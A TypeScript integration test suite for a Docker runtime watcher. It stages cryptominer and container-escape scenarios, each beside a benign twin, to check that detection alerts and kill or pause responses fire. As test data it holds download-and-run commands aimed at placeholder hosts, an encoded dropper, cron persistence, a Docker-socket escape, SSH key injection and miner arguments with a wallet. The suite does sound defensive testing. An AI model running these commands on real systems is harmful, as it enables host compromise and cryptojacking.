// Campaign variants the first watcher tests did not use, against the lab engine: miners renamed and argued
// other ways, pools in a config file copied in with `docker cp`, payloads in health checks, host disks mounted
// from a privileged container, the engine socket used to escape, `docker exec` into an innocent container,
// responses re-taken when the attacker starts or unpauses a container again, quick --rm containers, and a
// benign twin next to each. Containers that would touch the host are only created, never started.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EngineClient, resolveDockerHost } from '../../../src/core/engine/index.js';
import { CaptureSink, EventLog, type PortcullisEvent } from '../../../src/core/events/index.js';
import { severityRank } from '../../../src/core/report/finding.js';
import { createCoreAnalyzer } from '../../../src/watcher/core-analyzer.js';
import { DEFAULT_POLICY, parseResponseSpecs } from '../../../src/watcher/response-policy.js';
import { Watcher } from '../../../src/watcher/watcher.js';
import { docker, labFromEnv } from '../../lab/index.js';

const lab = labFromEnv();
const PREFIX = 'pcl-watchrt-';
const IMAGE_TAG = 'pcl-watchrt-miner/xmrig:latest';
const WALLET = '48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD';
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
const tryDocker = (args: string[]) => { try { return docker(lab, args); } catch { return ''; } };

function cleanup(): void {
  const ids = tryDocker(['ps', '-aq', '--filter', `name=${PREFIX}`]).split('\n').filter(Boolean);
  if (ids.length > 0) tryDocker(['rm', '-f', ...ids]);
  tryDocker(['rmi', IMAGE_TAG]); // only our tag: the image stays under its lab names
}

const nameOf = (e: PortcullisEvent) => (e.container as { name: string }).name;
const alertsFor = (sink: CaptureSink, name: string) => sink.eventsOf('watch.alert.raised').filter((e) => nameOf(e) === name);
const responsesFor = (sink: CaptureSink, name: string) => sink.eventsOf('watch.response.taken').filter((e) => nameOf(e) === name);
const state = (name: string, field: 'Running' | 'Paused') => docker(lab, ['inspect', '-f', `{{.State.${field}}}`, name]).trim();

async function until<T>(fn: () => T | undefined | false, what: string, ms = 30_000): Promise<T> {
  for (let waited = 0; waited < ms; waited += 100) {
    const v = fn();
    if (v !== undefined && v !== false) return v;
    await sleep(100);
  }
  throw new Error(`timed out waiting for ${what}`);
}

/** A script that only sleeps, installed where a dropper would put it, then run with the given arguments. */
function dropped(path: string, args: string): string {
  const dir = path.slice(0, path.lastIndexOf('/'));
  return `mkdir -p ${dir} && printf '#!/bin/sh\\nsleep 300\\n' > ${path} && chmod +x ${path} && exec ${path} ${args}`;
}

describe('watch: campaign variants and their benign twins', () => {
  const sink = new CaptureSink();
  const client = new EngineClient(resolveDockerHost(lab.dockerHost));
  let watcher: Watcher;
  const loud = (name: string) => alertsFor(sink, name).filter((e) => severityRank(e.severity as 'low') > severityRank('low'))
    .map((e) => `${String(e.rule)} ${String(e.severity)}: ${String(e.message)}`);
  const rules = (name: string) => alertsFor(sink, name).map((e) => `${String(e.rule)}:${String(e.severity)}`);
  const tracked = (name: string) => until(() => watcher.isTracked(name), `${name} inspected`).then(() => watcher.idle());

  beforeAll(async () => {
    cleanup();
    // Created before the watcher starts, entrypoint overridden to a dropped binary argued like xmrig: the review catches it.
    docker(lab, ['create', '--name', `${PREFIX}preexisting`, '--network', 'none', '--entrypoint', '/dev/shm/.k/kworker', 'alpine',
      '-a', 'rx/0', '-o', '198.51.100.23:45700', '-k', '--tls', '--donate-level=0']);
    // Running before the watcher starts, with a renamed miner exec'd into it before then: only its processes show it.
    docker(lab, ['run', '-d', '--name', `${PREFIX}catchup`, '--network', 'none', 'alpine', 'sleep', '300']);
    docker(lab, ['exec', '-d', `${PREFIX}catchup`, 'sh', '-c', dropped('/tmp/.x/kworker', `-o 203.0.113.10:14444 -u ${WALLET} --donate-level 1`)]);
    await until(() => docker(lab, ['top', `${PREFIX}catchup`]).includes('kworker'), 'exec\'d miner running');
    watcher = new Watcher({
      client, analyzer: createCoreAnalyzer(), events: new EventLog({ sinks: [sink] }), dryRun: false,
      policy: { ...DEFAULT_POLICY, minSeverity: 'low', ...parseResponseSpecs(['PCL-MIN-002=kill', 'PCL-TTP-011=pause']) },
      sampleIntervalMs: 1000, localEngine: true,
    });
    await watcher.start();
  });

  afterAll(() => {
    watcher?.stop();
    cleanup();
  });

  it('reviews a pre-existing container whose entrypoint was overridden to a renamed miner', async () => {
    const a = await until(() => alertsFor(sink, `${PREFIX}preexisting`).find((e) => e.rule === 'PCL-MIN-002'), 'review alert');
    expect(a).toMatchObject({ severity: 'critical', trigger: 'review' });
  });

  it('catches a miner exec\'d into a container before the watcher started, from its processes', async () => {
    const a = await until(() => alertsFor(sink, `${PREFIX}catchup`).find((e) => e.rule === 'PCL-MIN-002'), 'catch-up alert');
    expect(a).toMatchObject({ severity: 'critical', trigger: 'sample' });
    expect(alertsFor(sink, `${PREFIX}catchup`).filter((e) => e.trigger === 'review' && severityRank(e.severity as 'low') > severityRank('low'))).toEqual([]);
  });

  it('catches xmrig renamed systemd-journal with --url=/--user= at create; an nginx named xmrig-docs stays quiet', async () => {
    docker(lab, ['create', '--name', `${PREFIX}journal`, '--network', 'none', 'alpine', 'sh', '-c',
      dropped('/usr/lib/.sd/systemd-journal', `--url=pool.supportxmr.com:443 --user=${WALLET} --tls -k`)]);
    docker(lab, ['create', '--name', `${PREFIX}xmrig-docs`, '--network', 'none', 'alpine', 'nginx', '-g', 'daemon off;']);
    await until(() => alertsFor(sink, `${PREFIX}journal`).some((e) => e.rule === 'PCL-MIN-002'), 'renamed miner alert');
    expect(rules(`${PREFIX}journal`)).toEqual(expect.arrayContaining(['PCL-MIN-002:critical', 'PCL-MIN-004:high', 'PCL-MIN-005:high']));
    await tracked(`${PREFIX}xmrig-docs`);
    expect(loud(`${PREFIX}xmrig-docs`)).toEqual([]);
  });

  it('reads a pool config copied in with docker cp (archive upload) and judges it; an app config stays quiet', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'pcl-watchrt-'));
    writeFileSync(join(dir, 'config.json'), JSON.stringify({ autosave: true, cpu: { enabled: true },
      pools: [{ url: 'pool.example.invalid:3333', user: WALLET, pass: 'x', keepalive: true }] }));
    writeFileSync(join(dir, 'app.json'), JSON.stringify({ port: 3333, db: { url: 'postgres://db:5432/app', user: 'app' } }));
    docker(lab, ['create', '--name', `${PREFIX}cfg`, '--network', 'none', 'alpine', 'sh', '-c', dropped('/tmp/.x/kworker', '-c /tmp/config.json')]);
    docker(lab, ['create', '--name', `${PREFIX}appcfg`, '--network', 'none', 'alpine', 'sh', '-c', dropped('/srv/app/server', '-c /tmp/app.json')]);
    await tracked(`${PREFIX}cfg`);
    await tracked(`${PREFIX}appcfg`);
    // Nothing in the command line, environment or events gives the pool away before the upload.
    expect(loud(`${PREFIX}cfg`)).toEqual([]);
    docker(lab, ['cp', join(dir, 'config.json'), `${PREFIX}cfg:/tmp/config.json`]);
    docker(lab, ['cp', join(dir, 'app.json'), `${PREFIX}appcfg:/tmp/app.json`]);
    const a = await until(() => alertsFor(sink, `${PREFIX}cfg`).find((e) => e.rule === 'PCL-MIN-007'), 'config alert');
    expect(a).toMatchObject({ severity: 'critical', trigger: 'archive upload', evidence: [{ location: 'archive:/tmp/config.json' }] });
    expect(rules(`${PREFIX}cfg`)).toContain('PCL-MIN-005:high');
    await until(() => watcher.isTracked(`${PREFIX}appcfg`), 'app config container');
    await watcher.idle();
    expect(loud(`${PREFIX}appcfg`)).toEqual([]);
  });

  it('judges a payload hidden in the health check at create time; a health check grepping for xmrig stays quiet', async () => {
    docker(lab, ['create', '--name', `${PREFIX}health`, '--network', 'none', '--health-cmd', 'wget -qO- http://payload.example.invalid/h | sh',
      'alpine', 'sleep', '300']);
    docker(lab, ['create', '--name', `${PREFIX}health-ok`, '--network', 'none', '--health-cmd', 'ps | grep -v grep | grep -q xmrig && exit 1 || exit 0',
      'alpine', 'sleep', '300']);
    const a = await until(() => alertsFor(sink, `${PREFIX}health`).find((e) => e.rule === 'PCL-TTP-002'), 'health check alert');
    expect(a).toMatchObject({ severity: 'high', trigger: 'create' });
    expect((a.evidence as { location: string }[])[0]?.location).toMatch(/^Config\.Healthcheck\.Test/);
    await tracked(`${PREFIX}health-ok`);
    expect(loud(`${PREFIX}health-ok`)).toEqual([]);
  });

  it('reads containers created through the API with Cmd and Entrypoint sent as single strings', async () => {
    const create = async (name: string, body: Record<string, unknown>) => {
      const r = await client.request(`/containers/create?name=${name}`, { method: 'POST', body: { Image: 'alpine', HostConfig: { NetworkMode: 'none' }, ...body } });
      expect(r.status).toBe(201);
    };
    await create(`${PREFIX}apicmd`, { Cmd: `/tmp/.x/kworker -o stratum+tcp://pool.example.invalid:3333 -u ${WALLET}` });
    await create(`${PREFIX}apiep`, { Entrypoint: '/bin/sh -c', Cmd: 'wget -qO- http://payload.example.invalid/a | sh' });
    await create(`${PREFIX}apiok`, { Entrypoint: '/bin/sh -c', Cmd: 'wget -qO /tmp/index.html http://downloads.example.invalid/ && httpd -f' });
    await until(() => alertsFor(sink, `${PREFIX}apicmd`).some((e) => e.rule === 'PCL-MIN-003'), 'string Cmd alert');
    expect(rules(`${PREFIX}apicmd`)).toEqual(expect.arrayContaining(['PCL-MIN-003:critical', 'PCL-MIN-005:high']));
    const a = await until(() => alertsFor(sink, `${PREFIX}apiep`).find((e) => e.rule === 'PCL-TTP-002'), 'string Entrypoint alert');
    expect(a.severity).toBe('high');
    await tracked(`${PREFIX}apiok`);
    expect(loud(`${PREFIX}apiok`)).toEqual([]);
  });

  it('expands a dropper kept in the environment; JVM options kept there stay quiet', async () => {
    docker(lab, ['create', '--name', `${PREFIX}envdrop`, '--network', 'none', '-e', 'BOOT=wget -qO- http://payload.example.invalid/b.sh | sh',
      'alpine', 'sh', '-c', 'eval "$BOOT"']);
    docker(lab, ['create', '--name', `${PREFIX}envjava`, '--network', 'none', '-e', 'JAVA_OPTS=-Xmx1g -Dserver.port=3333',
      'alpine', 'sh', '-c', 'exec java $JAVA_OPTS -jar /app/app.jar']);
    const a = await until(() => alertsFor(sink, `${PREFIX}envdrop`).find((e) => e.rule === 'PCL-TTP-002'), 'env dropper alert');
    expect(a.severity).toBe('high');
    expect((a.evidence as { location: string }[])[0]?.location).toMatch(/\(env\)$/);
    await tracked(`${PREFIX}envjava`);
    expect(loud(`${PREFIX}envjava`)).toEqual([]);
  });

  it('flags host escapes in other shapes: a host disk mounted from a privileged container, the engine socket, --mount of /', async () => {
    docker(lab, ['create', '--name', `${PREFIX}disk`, '--network', 'none', '--privileged', 'alpine', 'sh', '-c',
      'mkdir -p /h && mount /dev/sda1 /h && echo "* * * * * root wget -qO- http://203.0.113.8/c.sh | sh" > /h/etc/cron.d/sys']);
    docker(lab, ['create', '--name', `${PREFIX}sock`, '--network', 'none', '-v', '/var/run/docker.sock:/var/run/docker.sock', 'alpine', 'sh', '-c',
      'docker run -d --privileged --pid=host -v /:/host alpine chroot /host sh -c id']);
    docker(lab, ['create', '--name', `${PREFIX}hostroot`, '--network', 'none', '--mount', 'type=bind,src=/,dst=/hostroot', 'alpine',
      'chroot', '/hostroot', 'sh', '-c', 'echo ssh-rsa AAAAB3Nza k@x >> /root/.ssh/authorized_keys']);
    docker(lab, ['create', '--name', `${PREFIX}tmpfs`, '--network', 'none', '--privileged', 'alpine', 'sh', '-c',
      'mkdir -p /cache && mount -t tmpfs tmpfs /cache && ls /cache']);
    await until(() => alertsFor(sink, `${PREFIX}disk`).some((e) => e.rule === 'PCL-TTP-004'), 'disk alerts');
    expect(rules(`${PREFIX}disk`)).toEqual(expect.arrayContaining(['PCL-TTP-001:critical', 'PCL-TTP-004:critical', 'PCL-CFG-001:critical']));
    await until(() => alertsFor(sink, `${PREFIX}sock`).some((e) => e.rule === 'PCL-TTP-012'), 'socket escape alert');
    expect(rules(`${PREFIX}sock`)).toEqual(expect.arrayContaining(['PCL-TTP-012:critical', 'PCL-CFG-015:critical']));
    await until(() => alertsFor(sink, `${PREFIX}hostroot`).some((e) => e.rule === 'PCL-TTP-005'), 'host root alerts');
    expect(rules(`${PREFIX}hostroot`)).toEqual(expect.arrayContaining(['PCL-TTP-001:critical', 'PCL-TTP-005:critical']));
    await tracked(`${PREFIX}tmpfs`);
    // The privileged flag itself is PCL-CFG-001; the tmpfs mount adds no escape finding.
    expect(loud(`${PREFIX}tmpfs`).filter((x) => !x.startsWith('PCL-CFG-'))).toEqual([]);
  });

  it('takes a kill again when the attacker starts the killed miner again', async () => {
    const name = `${PREFIX}restart`;
    docker(lab, ['run', '-d', '--name', name, '--network', 'none', 'alpine', 'sh', '-c',
      dropped('/tmp/.x/kthreadd', `-o 203.0.113.10:14444 -u ${WALLET} --donate-level 1 -a rx/0`)]);
    await until(() => responsesFor(sink, name).length >= 1, 'first kill');
    await until(() => state(name, 'Running') === 'false', 'stopped');
    docker(lab, ['start', name]);
    const again = await until(() => responsesFor(sink, name).find((e) => e.trigger === 'start'), 'kill after start');
    expect(again.action).toBe('kill');
    await until(() => state(name, 'Running') === 'false', 'stopped again');
  });

  it('pauses an innocent container an encoded payload was exec-injected into, and pauses it again after unpause', async () => {
    const name = `${PREFIX}victim`;
    const twin = `${PREFIX}victim-twin`;
    docker(lab, ['run', '-d', '--name', name, '--network', 'none', 'alpine', 'sleep', '300']);
    docker(lab, ['run', '-d', '--name', twin, '--network', 'none', 'alpine', 'sleep', '300']);
    await tracked(name);
    await tracked(twin);
    const payload = Buffer.from('wget -qO- http://payload.example.invalid/m.sh | sh').toString('base64');
    docker(lab, ['exec', '-d', name, 'sh', '-c', `echo ${payload} | base64 -d | sh; true`]);
    docker(lab, ['exec', twin, 'sh', '-c', 'ps | grep -v grep | grep -c xmrig; true']);
    const a = await until(() => alertsFor(sink, name).find((e) => e.rule === 'PCL-TTP-011'), 'exec alert');
    expect(String(a.trigger)).toMatch(/^exec_/);
    await until(() => state(name, 'Paused') === 'true', 'paused');
    docker(lab, ['unpause', name]);
    await until(() => responsesFor(sink, name).find((e) => e.trigger === 'unpause'), 'pause after unpause');
    await until(() => state(name, 'Paused') === 'true', 'paused again');
    await watcher.idle();
    expect(loud(twin)).toEqual([]);
    expect(state(twin, 'Paused')).toBe('false');
  });

  it('judges a miner image run under a random name even when the container is gone (--rm) before it is read', async () => {
    docker(lab, ['tag', 'alpine:latest', IMAGE_TAG]);
    const tag = await until(() => sink.eventsOf('watch.alert.raised').find((e) => e.rule === 'PCL-MIN-006' && String(e.trigger) === 'image tag'), 'tag alert');
    expect(tag.severity).toBe('critical');
    docker(lab, ['run', '--rm', '--name', `${PREFIX}q7x2k`, '--network', 'none', IMAGE_TAG, 'true']);
    const a = await until(() => alertsFor(sink, `${PREFIX}q7x2k`).find((e) => e.rule === 'PCL-MIN-006'), 'image alert');
    expect(a).toMatchObject({ severity: 'critical', container: { image: IMAGE_TAG } });
  });
});
